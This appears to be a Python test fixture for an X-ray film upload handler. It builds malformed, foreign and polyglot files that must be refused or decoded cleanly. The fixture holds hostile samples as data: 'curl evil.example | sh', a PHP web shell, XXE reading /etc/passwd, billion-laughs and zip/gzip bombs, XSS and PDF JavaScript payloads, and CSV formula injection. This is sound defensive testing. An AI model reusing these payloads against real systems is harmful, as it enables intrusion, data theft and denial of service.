"""Bad uploads, part one: good films to spoil, files that are something else, polyglots."""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import pickle
import struct
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any

import numpy as np
import tifffile
from PIL import Image, PngImagePlugin

from tests.films.dicom_maker import compressed, dataset, written
from xray.drawing.phantoms import phantom

FILM = phantom(99, (72, 64)).pixels
GREY = np.round(FILM * 255).astype(np.uint8)
TWELVE = np.round(FILM * 4095).astype(np.uint16)
PICTURE = Image.fromarray(GREY)


@dataclass(frozen=True)
class Case:
    """One upload.

    Attributes
    ----------
    name : what kind of badness, unique
    data : the bytes
    expect : "film" must decode, "error" must be refused, "either" whichever, but cleanly
    """

    name: str
    data: bytes
    expect: str = "error"


def saved(image: Image.Image, kind: str, **options: Any) -> bytes:
    """Bytes of a picture as Pillow writes it."""
    stream = io.BytesIO()
    image.save(stream, kind, **options)
    return stream.getvalue()


def seeds() -> dict[str, bytes]:
    """One good file of each kind that is read."""
    rgb = PICTURE.convert("RGB")
    return {
        "jpeg": saved(PICTURE, "JPEG", quality=80),
        "jpeg-progressive": saved(rgb, "JPEG", quality=80, progressive=True),
        "jpeg-cmyk": saved(rgb.convert("CMYK"), "JPEG"),
        "png": saved(PICTURE, "PNG"),
        "png-16": saved(Image.fromarray(TWELVE), "PNG"),
        "png-palette": saved(PICTURE.convert("P"), "PNG"),
        "tiff": saved(PICTURE, "TIFF"),
        "tiff-lzw": saved(PICTURE, "TIFF", compression="tiff_lzw"),
        "bmp": saved(PICTURE, "BMP"),
        "webp": saved(rgb, "WEBP", quality=80),
        "webp-lossless": saved(rgb, "WEBP", lossless=True),
        "dicom": written(dataset(TWELVE, 12, WindowCenter=2000, WindowWidth=3000)),
        "dicom-jpeg": written(compressed(GREY, 8, "JPEG")),
        "dicom-jpeg2000": written(compressed(GREY, 8, "JPEG2000")),
        "dicom-rle": written(compressed(TWELVE, 12, "RLE")),
    }


def foreign() -> Iterator[Case]:
    """Files that are something else."""
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as pack:
        pack.writestr("film.jpeg", seeds()["jpeg"])
    numbers = io.BytesIO()
    np.save(numbers, GREY)
    laughs = "".join(f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, 12))
    files: dict[str, bytes] = {
        "empty": b"",
        "one byte": b"\xff",
        "zeros": bytes(5000),
        "random": np.random.default_rng(1).bytes(5000),
        "zip": archive.getvalue(),
        "empty zip": b"PK\x05\x06" + bytes(18),
        "zip bomb": _zip_bomb(),
        "gzip": gzip.compress(seeds()["jpeg"]),
        "gzip bomb": gzip.compress(bytes(30_000_000)),
        "bzip2": bz2.compress(b"film" * 100),
        "xz": lzma.compress(b"film" * 100),
        "7z": b"7z\xbc\xaf\x27\x1c" + bytes(60),
        "rar": b"Rar!\x1a\x07\x01\x00" + bytes(60),
        "zstd": b"\x28\xb5\x2f\xfd" + bytes(60),
        "tar": b"film.jpeg".ljust(257, b"\0") + b"ustar\x0000" + bytes(500),
        "pdf": b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>",
        "pdf after junk": b"junk\n%PDF-1.4\n",
        "postscript": b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(/etc/passwd) run",
        "rtf": b"{\\rtf1 film}",
        "svg": b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>",
        "svg with external entity": b"<?xml version='1.0'?><!DOCTYPE svg [<!ENTITY x SYSTEM "
        b"'file:///etc/passwd'>]><svg>&x;</svg>",
        "svg billion laughs": f"<?xml version='1.0'?><!DOCTYPE svg [<!ENTITY a0 'ha'>{laughs}]>"
        "<svg>&a11;</svg>".encode(),
        "html": b"<!DOCTYPE html><html><script>alert(document.cookie)</script></html>",
        "html in capitals": b"<HTML><BODY onload=alert(1)>",
        "script tag": b"<script>alert(1)</script>",
        "xml": b"<?xml version='1.0'?><film/>",
        "php": b"<?php system($_GET['c']); ?>",
        "shell": b"#!/bin/sh\ncurl evil.example | sh\n",
        "python": b"import os\nos.system('id')\n",
        "pickle": pickle.dumps({"film": list(range(50))}),
        "exe": b"MZ\x90\0" + bytes(200),
        "elf": b"\x7fELF\x02\x01\x01" + bytes(200),
        "class": b"\xca\xfe\xba\xbe" + bytes(100),
        "wasm": b"\0asm\x01\0\0\0" + bytes(100),
        "npy": numbers.getvalue(),
        "hdf5": b"\x89HDF\r\n\x1a\n" + bytes(200),
        "mp4": b"\0\0\0\x18ftypmp42" + bytes(200),
        "heic": b"\0\0\0\x18ftypheic" + bytes(200),
        "avif": b"\0\0\0\x18ftypavif" + bytes(200),
        "matroska": b"\x1aE\xdf\xa3" + bytes(100),
        "avi": b"RIFF\xff\0\0\0AVI LIST" + bytes(100),
        "wav": b"RIFF\xff\0\0\0WAVEfmt " + bytes(100),
        "mp3": b"ID3\x04" + bytes(100),
        "ogg": b"OggS" + bytes(100),
        "gif": saved(PICTURE, "GIF"),
        "animated gif": saved(PICTURE, "GIF", save_all=True, append_images=[PICTURE] * 3),
        "psd": b"8BPS\0\x01" + bytes(100),
        "ico": saved(PICTURE, "ICO"),
        "jp2": saved(PICTURE, "JPEG2000"),
        "j2k": saved(PICTURE, "JPEG2000", no_jp2=True),
        "ppm": saved(PICTURE, "PPM"),
        "tga": saved(PICTURE, "TGA"),
        "eps": saved(PICTURE, "EPS"),
        "fits": b"SIMPLE  =                    T" + bytes(2000),
        "nifti": struct.pack("<i", 348) + bytes(340) + b"n+1\0",
        "nrrd": b"NRRD0004\ntype: uchar\n",
        "csv": b"PatientName,Finding\n=cmd|'/c calc'!A0,pneumonia\n",
        "json": b'{"film": null}',
        "utf-16 text": "Röntgenbild".encode("utf-16"),
        "bigtiff": _tiff_big(),
        "text that begins like a bmp": b"BMI of the child: 16.2",
        "text that begins like a tiff": b"II*\0 is how a TIFF begins",
        "png in text": b"data:image/png;base64,iVBORw0KGgo=",
        "only magic jpeg": b"\xff\xd8\xff",
        "only magic png": b"\x89PNG\r\n\x1a\n",
        "only magic webp": b"RIFF\x10\0\0\0WEBPVP8 ",
        "only magic dicom": bytes(128) + b"DICM",
        "png with dos line ends": seeds()["png"].replace(b"\n", b"\r\n"),
        "jpeg read as utf-8": seeds()["jpeg"].decode("utf-8", "replace").encode(),
        "half of two files": seeds()["png"][:200] + seeds()["jpeg"][200:],
    }
    for name, data in files.items():
        yield Case(name, data)


def _zip_bomb() -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as pack:
        for i in range(3):
            pack.writestr(f"{i}.png", bytes(10_000_000))
    return stream.getvalue()


def _tiff_big() -> bytes:
    stream = io.BytesIO()
    tifffile.imwrite(stream, GREY, bigtiff=True)
    return stream.getvalue()


def polyglots() -> Iterator[Case]:
    """Files that are two things at once: a film if they begin as one, never anything else."""
    good, html = seeds(), b"<html><script>alert(1)</script></html>"
    archive = next(case.data for case in foreign() if case.name == "zip")
    for kind in ("jpeg", "png", "bmp", "webp", "tiff"):
        yield Case(f"{kind} and zip", good[kind] + archive, "film")
        yield Case(f"{kind} and html", good[kind] + html, "film")
        yield Case(f"html before {kind}", html + good[kind])
        yield Case(f"zip before {kind}", archive + good[kind])
    note = PngImagePlugin.PngInfo()
    note.add_text("Comment", html.decode())
    note.add_itxt("Title", "<svg onload=alert(1)>")
    yield Case("png with html in its text", saved(PICTURE, "PNG", pnginfo=note), "film")
    yield Case("jpeg with php in its comment", saved(PICTURE, "JPEG", comment=b"<?php ?>"), "film")
    program = b"MZ\x90\0".ljust(128, b"\0")
    yield Case("dicom and program", program + good["dicom"][128:], "film")
    yield Case("dicom and tiff", b"II*\0\x08\0\0\0".ljust(128, b"\0") + good["dicom"][128:], "film")
    yield Case("dicom and html", html.ljust(128)[:128] + good["dicom"][128:], "film")
    yield Case("pdf around jpeg", b"%PDF-1.4\nstream\n" + good["jpeg"] + b"\nendstream")
    yield Case("gif that is a jpeg later", b"GIF89a" + good["jpeg"])


def patched(data: bytes, at: int, form: str, *values: int) -> bytes:
    """Bytes with numbers written over some of them."""
    size = struct.calcsize(form)
    return data[:at] + struct.pack(form, *values) + data[at + size :]
